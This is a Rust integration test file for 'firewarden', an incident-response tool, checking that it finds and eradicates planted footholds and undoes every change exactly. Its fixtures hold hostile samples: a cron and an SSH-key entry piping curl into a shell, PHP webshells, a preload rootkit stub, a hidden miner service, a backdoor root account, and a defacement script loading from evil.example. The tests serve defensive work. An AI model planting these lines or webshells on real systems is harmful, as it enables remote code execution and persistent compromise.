@@ -1,0 +1,811 @@
+//! Response actions end to end on throwaway roots (and, for processes, a child of this test):
+//! planted footholds found by triage are eradicated and re-checked, and `undo --all` puts every
+//! file back exactly — content, owner, mode and times.
+
+use std::collections::BTreeMap;
+use std::io::Read;
+use std::os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+fn fw(args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_firewarden"))
+        .args(args)
+        .env("NO_COLOR", "1")
+        .env_remove("SSH_CONNECTION")
+        .env_remove("SSH_CLIENT")
+        .output()
+        .unwrap()
+}
+
+fn text(out: &Output) -> String {
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    )
+}
+
+fn ok(out: Output) -> String {
+    let t = text(&out);
+    assert!(
+        out.status.success(),
+        "firewarden failed ({:?}): {t}",
+        out.status.code()
+    );
+    t
+}
+
+fn write(root: &Path, path: &str, content: &str, mode: u32) {
+    let full = root.join(path.trim_start_matches('/'));
+    std::fs::create_dir_all(full.parent().unwrap()).unwrap();
+    std::fs::write(&full, content).unwrap();
+    std::fs::set_permissions(&full, std::fs::Permissions::from_mode(mode)).unwrap();
+}
+
+/// Every entry under `root` with what undo must restore: kind, content hash or link target,
+/// owner, mode, and for files their modification and access times. Directory times are left
+/// out: removing and re-creating an entry changes them, as any restore would.
+fn snapshot(root: &Path) -> BTreeMap<PathBuf, String> {
+    let mut out = BTreeMap::new();
+    let mut stack = vec![root.to_path_buf()];
+    while let Some(dir) = stack.pop() {
+        for e in std::fs::read_dir(&dir).unwrap().flatten() {
+            let p = e.path();
+            let m = std::fs::symlink_metadata(&p).unwrap();
+            let what = if m.file_type().is_symlink() {
+                format!("link {}", std::fs::read_link(&p).unwrap().display())
+            } else if m.is_dir() {
+                stack.push(p.clone());
+                "dir".to_string()
+            } else {
+                // O_NOATIME: looking must not change the access times being compared.
+                let mut bytes = Vec::new();
+                std::fs::OpenOptions::new()
+                    .read(true)
+                    .custom_flags(libc::O_NOATIME)
+                    .open(&p)
+                    .unwrap()
+                    .read_to_end(&mut bytes)
+                    .unwrap();
+                format!(
+                    "file {:x} mtime {}.{} atime {}.{}",
+                    fnv(&bytes),
+                    m.mtime(),
+                    m.mtime_nsec(),
+                    m.atime(),
+                    m.atime_nsec()
+                )
+            };
+            out.insert(
+                p.strip_prefix(root).unwrap().to_path_buf(),
+                format!("{what} {}:{} {:o}", m.uid(), m.gid(), m.mode() & 0o7777),
+            );
+        }
+    }
+    out
+}
+
+fn fnv(bytes: &[u8]) -> u64 {
+    bytes.iter().fold(0xcbf29ce484222325u64, |h, b| {
+        (h ^ *b as u64).wrapping_mul(0x100000001b3)
+    })
+}
+
+fn findings(report: &Path) -> Vec<(String, String)> {
+    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(report).unwrap()).unwrap();
+    v["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            (
+                f["id"].as_str().unwrap().to_string(),
+                f["check"].as_str().unwrap().to_string(),
+            )
+        })
+        .collect()
+}
+
+/// A root with one of each foothold eradication handles, next to legitimate content that must
+/// survive untouched.
+fn planted_root() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    let r = dir.path();
+    write(r, "/etc/hostname", "web01\n", 0o644);
+    write(
+        r,
+        "/etc/passwd",
+        "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\ntoor:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
+        0o644,
+    );
+    write(
+        r,
+        "/etc/shadow",
+        "root:$6$r$h:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\ntoor:$6$t$h:19000:0:99999:7:::\nalice:$6$a$h:19000:0:99999:7:::\n",
+        0o640,
+    );
+    write(
+        r,
+        "/etc/crontab",
+        "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n",
+        0o644,
+    );
+    write(
+        r,
+        "/root/.ssh/authorized_keys",
+        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHlegit admin@corp\ncommand=\"curl -s http://203.0.113.9/k | bash\" ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCevil x@y\n",
+        0o600,
+    );
+    write(
+        r,
+        "/etc/ld.so.preload",
+        "/usr/lib/x86_64-linux-gnu/libsystem.so\n",
+        0o644,
+    );
+    write(
+        r,
+        "/usr/lib/x86_64-linux-gnu/libsystem.so",
+        "\x7fELF rootkit",
+        0o755,
+    );
+    write(
+        r,
+        "/etc/systemd/system/dbus-sync.service",
+        "[Unit]\nDescription=sync\n[Service]\nExecStart=/tmp/.ICE-unix/.x/dbus-sync\n[Install]\nWantedBy=multi-user.target\n",
+        0o644,
+    );
+    std::fs::create_dir_all(r.join("etc/systemd/system/multi-user.target.wants")).unwrap();
+    std::os::unix::fs::symlink(
+        "/etc/systemd/system/dbus-sync.service",
+        r.join("etc/systemd/system/multi-user.target.wants/dbus-sync.service"),
+    )
+    .unwrap();
+    write(r, "/tmp/.ICE-unix/.x/dbus-sync", "\x7fELF miner", 0o755);
+    write(r, "/var/www/html/index.html", "<h1>shop</h1>\n", 0o644);
+    write(
+        r,
+        "/var/www/html/up.php",
+        "<?php @eval($_POST['cmd']); ?>\n",
+        0o644,
+    );
+    dir
+}
+
+#[test]
+fn eradicate_every_planted_foothold_then_undo_restores_the_exact_tree() {
+    let root = planted_root();
+    let r = root.path().to_str().unwrap();
+    let state = tempfile::tempdir().unwrap();
+    let sd = state.path().join("state");
+    let sd = sd.to_str().unwrap();
+    let work = tempfile::tempdir().unwrap();
+    let report = work.path().join("triage.json");
+    let before = snapshot(root.path());
+
+    let out = fw(&[
+        "triage",
+        "--root",
+        r,
+        "--format",
+        "json",
+        "-o",
+        report.to_str().unwrap(),
+    ]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
+    let wanted = [
+        "linux.accounts.uid0",
+        "linux.persistence.cron",
+        "linux.ssh.authorized_keys",
+        "linux.persistence.ld_preload",
+        "linux.persistence.systemd",
+        "linux.web.webshell",
+        "linux.files.temp_dirs",
+    ];
+    let found = findings(&report);
+    for check in wanted {
+        assert!(
+            found.iter().any(|(_, c)| c == check),
+            "triage did not find {check}: {found:?}"
+        );
+    }
+    let listed = ok(fw(&[
+        "eradicate",
+        "--from",
+        report.to_str().unwrap(),
+        "--list",
+    ]));
+    for check in wanted {
+        assert!(listed.contains(check), "{check} not eradicable: {listed}");
+    }
+
+    // A dry run changes nothing, and without --yes (no terminal here) nothing happens either.
+    let ids: Vec<String> = found
+        .iter()
+        .filter(|(_, c)| wanted.contains(&c.as_str()))
+        .map(|(id, _)| id.clone())
+        .collect();
+    let mut args = vec![
+        "eradicate",
+        "--from",
+        report.to_str().unwrap(),
+        "--root",
+        r,
+        "--state-dir",
+        sd,
+    ];
+    args.extend(ids.iter().map(String::as_str));
+    let dry = ok(fw(&[args.as_slice(), &["--dry-run"]].concat()));
+    assert!(
+        dry.contains("-*/5 * * * * root curl"),
+        "the plan shows the removed line: {dry}"
+    );
+    assert_eq!(snapshot(root.path()), before);
+    let refused = fw(&args);
+    assert_eq!(refused.status.code(), Some(2));
+    assert_eq!(snapshot(root.path()), before);
+
+    // Eradicate them all: every re-run check says gone. Findings that share a foothold with
+    // an earlier one (the unit's link, the webshell's second rule) find it gone already.
+    let out = fw(&[args.as_slice(), &["--yes", "--format", "json"]].concat());
+    let outcomes: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
+    let gone = outcomes
+        .as_array()
+        .map_or(0, |a| a.iter().filter(|o| o["gone"] == true).count());
+    assert!(gone >= wanted.len(), "{}", text(&out));
+    assert!(
+        outcomes
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|o| o["gone"] == true),
+        "{}",
+        text(&out)
+    );
+
+    let again = work.path().join("again.json");
+    fw(&[
+        "triage",
+        "--root",
+        r,
+        "--format",
+        "json",
+        "-o",
+        again.to_str().unwrap(),
+    ]);
+    let left = findings(&again);
+    for check in wanted {
+        assert!(
+            !left.iter().any(|(_, c)| c == check),
+            "{check} still reported: {left:?}"
+        );
+    }
+    // What was legitimate is still there.
+    let crontab = std::fs::read_to_string(root.path().join("etc/crontab")).unwrap();
+    assert!(crontab.contains("run-parts") && !crontab.contains("curl"));
+    let keys = std::fs::read_to_string(root.path().join("root/.ssh/authorized_keys")).unwrap();
+    assert!(keys.contains("admin@corp") && !keys.contains("command="));
+    let passwd = std::fs::read_to_string(root.path().join("etc/passwd")).unwrap();
+    assert!(passwd.contains("alice") && !passwd.contains("toor"));
+    assert!(!root.path().join("var/www/html/up.php").exists());
+    assert!(root.path().join("var/www/html/index.html").exists());
+
+    let actions = ok(fw(&["actions", "--state-dir", sd, "--format", "json"]));
+    let list: serde_json::Value = serde_json::from_str(&actions).unwrap();
+    assert!(
+        list.as_array()
+            .unwrap()
+            .iter()
+            .all(|a| a["status"] == "applied" && a["verified"] == true)
+    );
+
+    // Undo everything: the tree is exactly as it was.
+    ok(fw(&["undo", "--all", "--root", r, "--state-dir", sd]));
+    assert_eq!(snapshot(root.path()), before);
+    let verify = ok(fw(&["actions", "--verify", "--state-dir", sd]));
+    assert!(verify.contains("chain intact"), "{verify}");
+}
+
+#[test]
+fn undo_refuses_to_overwrite_a_later_change_unless_forced_and_the_chain_shows_tampering() {
+    let root = planted_root();
+    let r = root.path().to_str().unwrap();
+    let state = tempfile::tempdir().unwrap();
+    let sd = state.path().to_str().unwrap();
+    let before = std::fs::read(root.path().join("etc/crontab")).unwrap();
+    ok(fw(&[
+        "contain",
+        "file",
+        "/var/www/html/up.php",
+        "--root",
+        r,
+        "--state-dir",
+        sd,
+        "--yes",
+    ]));
+    let work = tempfile::tempdir().unwrap();
+    let report = work.path().join("t.json");
+    fw(&[
+        "triage",
+        "--root",
+        r,
+        "--only",
+        "linux.persistence.cron",
+        "--format",
+        "json",
+        "-o",
+        report.to_str().unwrap(),
+    ]);
+    let (id, _) = findings(&report)
+        .into_iter()
+        .find(|(_, c)| c == "linux.persistence.cron")
+        .unwrap();
+    ok(fw(&[
+        "eradicate",
+        "--from",
+        report.to_str().unwrap(),
+        &id,
+        "--root",
+        r,
+        "--state-dir",
+        sd,
+        "--yes",
+    ]));
+
+    // Someone edits the crontab afterwards: undo must not silently throw their edit away.
+    let edited = b"# edited by the admin after eradication\n";
+    std::fs::write(root.path().join("etc/crontab"), edited).unwrap();
+    let refused = fw(&["undo", "A2", "--root", r, "--state-dir", sd]);
+    assert_eq!(refused.status.code(), Some(2));
+    assert!(
+        text(&refused).contains("changed since"),
+        "{}",
+        text(&refused)
+    );
+    assert_eq!(
+        std::fs::read(root.path().join("etc/crontab")).unwrap(),
+        edited
+    );
+    ok(fw(&[
+        "undo",
+        "A2",
+        "--force",
+        "--root",
+        r,
+        "--state-dir",
+        sd,
+    ]));
+    assert_eq!(
+        std::fs::read(root.path().join("etc/crontab")).unwrap(),
+        before
+    );
+    let twice = fw(&["undo", "A2", "--root", r, "--state-dir", sd]);
+    assert_eq!(twice.status.code(), Some(2));
+
+    // A journal line edited after the fact breaks the chain: listing says so, and nothing
+    // more is added to a broken journal.
+    let journal = state.path().join("journal.jsonl");
+    let t = std::fs::read_to_string(&journal).unwrap();
+    std::fs::write(
+        &journal,
+        t.replacen("\"operator\":\"", "\"operator\":\"x", 1),
+    )
+    .unwrap();
+    assert_eq!(
+        fw(&["actions", "--verify", "--state-dir", sd])
+            .status
+            .code(),
+        Some(1)
+    );
+    let blocked = fw(&["undo", "A1", "--root", r, "--state-dir", sd]);
+    assert_eq!(blocked.status.code(), Some(2));
+    assert!(text(&blocked).contains("chain"), "{}", text(&blocked));
+}
+
+#[test]
+fn quarantine_is_encrypted_and_comes_back_byte_for_byte_with_owner_mode_and_times() {
+    let root = planted_root();
+    let r = root.path().to_str().unwrap();
+    let state = tempfile::tempdir().unwrap();
+    let sd = state.path().to_str().unwrap();
+    let shell = root.path().join("var/www/html/up.php");
+    let content = std::fs::read(&shell).unwrap();
+    std::fs::set_permissions(&shell, std::fs::Permissions::from_mode(0o4751)).unwrap();
+    let before = snapshot(root.path());
+
+    ok(fw(&[
+        "contain",
+        "file",
+        "/var/www/html/up.php",
+        "--root",
+        r,
+        "--state-dir",
+        sd,
+        "--yes",
+    ]));
+    assert!(!shell.exists());
+    for e in std::fs::read_dir(state.path().join("vault"))
+        .unwrap()
+        .flatten()
+    {
+        let stored = std::fs::read(e.path()).unwrap();
+        assert!(stored.starts_with(b"age-encryption.org/v1"));
+        assert!(
+            !stored.windows(5).any(|w| w == b"@eval"),
+            "quarantine kept the file in clear"
+        );
+    }
+    let shown = ok(fw(&[
+        "actions",
+        "--state-dir",
+        sd,
+        "--show",
+        "A1",
+        "--format",
+        "json",
+    ]));
+    let sha =
+        serde_json::from_str::<serde_json::Value>(&shown).unwrap()["action"]["steps"][0]["before"]
+            ["sha256"]
+            .as_str()
+            .unwrap()
+            .to_string();
+    let out = state
+        .path()
+        .join("..")
+        .join(format!("extract-{}", std::process::id()));
+    ok(fw(&[
+        "actions",
+        "--state-dir",
+        sd,
+        "--extract",
+        &sha,
+        "-o",
+        out.to_str().unwrap(),
+    ]));
+    assert_eq!(std::fs::read(&out).unwrap(), content);
+    std::fs::remove_file(&out).unwrap();
+
+    ok(fw(&["undo", "A1", "--root", r, "--state-dir", sd]));
+    assert_eq!(snapshot(root.path()), before);
+}
+
+#[test]
+fn account_lock_and_its_undo_on_a_throwaway_root() {
+    let root = planted_root();
+    let r = root.path().to_str().unwrap();
+    write(
+        root.path(),
+        "/home/alice/.ssh/authorized_keys",
+        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAlice alice@laptop\n",
+        0o600,
+    );
+    let state = tempfile::tempdir().unwrap();
+    let sd = state.path().to_str().unwrap();
+    let before = snapshot(root.path());
+
+    let plan = ok(fw(&[
+        "contain",
+        "account",
+        "alice",
+        "--root",
+        r,
+        "--state-dir",
+        sd,
+        "--dry-run",
+    ]));
+    assert!(
+        plan.contains("risk high") && plan.contains("alice:!$6$a$h"),
+        "{plan}"
+    );
+    ok(fw(&[
+        "contain",
+        "account",
+        "alice",
+        "--root",
+        r,
+        "--state-dir",
+        sd,
+        "--yes",
+    ]));
+    let shadow = std::fs::read_to_string(root.path().join("etc/shadow")).unwrap();
+    assert!(
+        shadow.contains("alice:!$6$a$h:19000:0:99999:7::1:"),
+        "{shadow}"
+    );
+    assert!(
+        shadow.contains("root:$6$r$h:19000"),
+        "other accounts untouched: {shadow}"
+    );
+    assert!(!root.path().join("home/alice/.ssh/authorized_keys").exists());
+    let again = fw(&[
+        "contain",
+        "account",
+        "alice",
+        "--root",
+        r,
+        "--state-dir",
+        sd,
+        "--yes",
+    ]);
+    assert_eq!(
+        again.status.code(),
+        Some(2),
+        "locking twice is refused: {}",
+        text(&again)
+    );
+    assert_eq!(
+        fw(&[
+            "contain",
+            "account",
+            "nobody-here",
+            "--root",
+            r,
+            "--state-dir",
+            sd,
+            "--yes"
+        ])
+        .status
+        .code(),
+        Some(2)
+    );
+
+    ok(fw(&["undo", "A1", "--root", r, "--state-dir", sd]));
+    assert_eq!(snapshot(root.path()), before);
+}
+
+#[test]
+fn harden_check_apply_and_undo_on_a_throwaway_root() {
+    let root = planted_root();
+    let r = root.path().to_str().unwrap();
+    write(
+        root.path(),
+        "/etc/ssh/sshd_config",
+        "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\nPermitEmptyPasswords yes\n",
+        0o644,
+    );
+    write(
+        root.path(),
+        "/etc/ssh/sshd_config.d/50-cloud.conf",
+        "PasswordAuthentication yes\n",
+        0o644,
+    );
+    std::fs::set_permissions(
+        root.path().join("etc/shadow"),
+        std::fs::Permissions::from_mode(0o644),
+    )
+    .unwrap();
+    write(
+        root.path(),
+        "/etc/sudoers",
+        "root ALL=(ALL:ALL) ALL\ndeploy ALL=(ALL) NOPASSWD: ALL\n",
+        0o440,
+    );
+    write(
+        root.path(),
+        "/etc/sysctl.conf",
+        "kernel.kptr_restrict = 0\n",
+        0o644,
+    );
+    std::fs::create_dir_all(root.path().join("usr/local/bin")).unwrap();
+    std::fs::set_permissions(
+        root.path().join("usr/local/bin"),
+        std::fs::Permissions::from_mode(0o777),
+    )
+    .unwrap();
+    let state = tempfile::tempdir().unwrap();
+    let sd = state.path().to_str().unwrap();
+    let before = snapshot(root.path());
+
+    let check = fw(&["harden", "check", "--root", r, "--format", "json"]);
+    assert_eq!(check.status.code(), Some(1));
+    let score: serde_json::Value = serde_json::from_slice(&check.stdout).unwrap();
+    let status = |s: &serde_json::Value, id: &str| {
+        s["items"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|i| i["id"] == id)
+            .unwrap()["status"]
+            .as_str()
+            .unwrap()
+            .to_string()
+    };
+    let items = [
+        "ssh.root_login",
+        "ssh.password_auth",
+        "ssh.empty_passwords",
+        "perms.shadow",
+        "sudo.nopasswd",
+        "path.world_writable",
+        "kernel.kptr_restrict",
+    ];
+    for id in items {
+        assert_eq!(status(&score, id), "fail", "{id}");
+    }
+    assert_eq!(status(&score, "perms.sudoers"), "pass");
+
+    let mut args = vec!["harden", "apply"];
+    args.extend(items);
+    args.extend(["--root", r, "--state-dir", sd, "--yes"]);
+    let applied = ok(fw(&args));
+    assert!(
+        applied.contains("+PermitRootLogin prohibit-password"),
+        "{applied}"
+    );
+    let check = fw(&["harden", "check", "--root", r, "--format", "json"]);
+    let score: serde_json::Value = serde_json::from_slice(&check.stdout).unwrap();
+    for id in items {
+        assert_eq!(status(&score, id), "pass", "{id} after apply");
+    }
+    assert_eq!(
+        fw(&[
+            "harden",
+            "apply",
+            "perms.shadow",
+            "--root",
+            r,
+            "--state-dir",
+            sd,
+            "--yes"
+        ])
+        .status
+        .code(),
+        Some(2)
+    );
+
+    ok(fw(&["undo", "--all", "--root", r, "--state-dir", sd]));
+    assert_eq!(snapshot(root.path()), before);
+}
+
+#[test]
+fn recover_web_restores_tampered_and_removed_files_from_a_baseline() {
+    let root = planted_root();
+    let r = root.path().to_str().unwrap();
+    let site = root.path().join("var/www/html");
+    std::fs::remove_file(site.join("up.php")).unwrap();
+    write(
+        root.path(),
+        "/var/www/html/about.html",
+        "<p>about us</p>\n",
+        0o644,
+    );
+    let work = tempfile::tempdir().unwrap();
+    let baseline = work.path().join("site.baseline");
+    ok(fw(&[
+        "baseline",
+        "create",
+        site.to_str().unwrap(),
+        "-o",
+        baseline.to_str().unwrap(),
+        "--copy",
+    ]));
+    let clean = snapshot(&site);
+
+    // The attacker defaces one page, deletes another and drops a shell.
+    write(
+        root.path(),
+        "/var/www/html/index.html",
+        "<h1>hacked by x</h1><script src=//evil.example/m.js></script>\n",
+        0o666,
+    );
+    std::fs::remove_file(site.join("about.html")).unwrap();
+    write(
+        root.path(),
+        "/var/www/html/shell.php",
+        "<?php system($_GET['c']); ?>\n",
+        0o644,
+    );
+    let tampered = snapshot(root.path());
+
+    let state = tempfile::tempdir().unwrap();
+    let sd = state.path().to_str().unwrap();
+    let plan = ok(fw(&[
+        "recover",
+        "web",
+        baseline.to_str().unwrap(),
+        "--site",
+        "/var/www/html",
+        "--root",
+        r,
+        "--state-dir",
+        sd,
+        "--dry-run",
+    ]));
+    assert!(
+        plan.contains("+<h1>shop</h1>") && plan.contains("create /var/www/html/about.html"),
+        "{plan}"
+    );
+    assert!(plan.contains("shell.php"), "added files are named: {plan}");
+    ok(fw(&[
+        "recover",
+        "web",
+        baseline.to_str().unwrap(),
+        "--site",
+        "/var/www/html",
+        "--root",
+        r,
+        "--state-dir",
+        sd,
+        "--yes",
+        "--quarantine-added",
+    ]));
+    let restored = snapshot(&site);
+    let content = |s: &BTreeMap<PathBuf, String>| {
+        s.iter()
+            .map(|(k, v)| {
+                (
+                    k.clone(),
+                    v.split(" mtime").next().unwrap().to_string()
+                        + " "
+                        + v.rsplit(' ').next().unwrap(),
+                )
+            })
+            .collect::<BTreeMap<_, _>>()
+    };
+    assert_eq!(
+        content(&restored),
+        content(&clean),
+        "content and modes are back"
+    );
+    let diff = fw(&[
+        "baseline",
+        "diff",
+        baseline.to_str().unwrap(),
+        site.to_str().unwrap(),
+    ]);
+    assert_eq!(diff.status.code(), Some(0), "{}", text(&diff));
+
+    ok(fw(&["undo", "A1", "--root", r, "--state-dir", sd]));
+    assert_eq!(snapshot(root.path()), tampered);
+}
+
+#[test]
+fn a_frozen_process_keeps_its_evidence_and_thaws_on_undo() {
+    if !Path::new("/proc/self/stat").exists() {
+        eprintln!("SKIPPED: no /proc");
+        return;
+    }
+    let state = tempfile::tempdir().unwrap();
+    let sd = state.path().to_str().unwrap();
+    let mut child = Command::new("sleep").arg("300").spawn().unwrap();
+    let pid = child.id().to_string();
+    let proc_state = || {
+        let s = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
+        s[s.rfind(')').unwrap() + 2..].chars().next().unwrap()
+    };
+    let out = fw(&[
+        "contain",
+        "process",
+        &pid,
+        "--state-dir",
+        sd,
+        "--yes",
+        "--format",
+        "json",
+    ]);
+    let t = text(&out);
+    assert!(out.status.success(), "{t}");
+    assert_eq!(proc_state(), 'T', "not stopped");
+    let outcome: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let steps = outcome[0]["action"]["steps"].as_array().unwrap();
+    let kept: Vec<&str> = steps.iter().filter_map(|s| s["what"].as_str()).collect();
+    for part in ["exe", "maps", "cmdline", "environ", "fd (list)"] {
+        assert!(
+            kept.iter().any(|w| w.ends_with(part)),
+            "{part} not kept: {kept:?}"
+        );
+    }
+    // Its own session is never frozen.
+    let me = std::process::id().to_string();
+    assert_eq!(
+        fw(&["contain", "process", &me, "--state-dir", sd, "--yes"])
+            .status
+            .code(),
+        Some(2)
+    );
+    ok(fw(&["undo", "A1", "--state-dir", sd]));
+    assert_ne!(proc_state(), 'T', "not thawed");
+    child.kill().unwrap();
+    child.wait().unwrap();
+}
